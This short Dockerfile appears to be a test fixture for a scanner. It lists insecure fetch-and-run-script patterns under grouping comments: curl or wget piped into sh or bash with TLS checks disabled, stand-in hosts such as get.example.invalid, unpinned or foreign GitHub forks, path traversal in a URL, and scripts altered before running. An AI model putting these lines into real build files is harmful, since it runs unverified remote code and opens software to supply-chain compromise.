FROM debian:12-slim
# nobody checks who answers
RUN curl -sSf http://sh.rustup.rs | sh -s -- -y
RUN curl -k -sSf https://sh.rustup.rs | sh -s -- -y
RUN wget --no-check-certificate -qO- https://deb.nodesource.com/setup_22.x | bash
# somebody else answers
RUN curl -fsSL --connect-to ::mirror.example.invalid: https://get.docker.com | sh
RUN curl -fsSL https://sh.rustup.rs.example.invalid | sh
# a commit may be one of any fork
RUN curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef0123456789abcdef01234567/install.sh | bash
RUN curl -fsSL https://raw.githubusercontent.com/someone/nvm/v0.40.3/install.sh | bash
RUN curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v1/../../../someone/nvm/v1/install.sh | bash
# something else is run
RUN curl -fsSL https://sh.rustup.rs | sed 1d | sh
RUN bash -c "$(curl -fsSL https://sh.rustup.rs | tac)"
RUN curl -fsSL https://sh.rustup.rs https://get.example.invalid/more.sh | sh
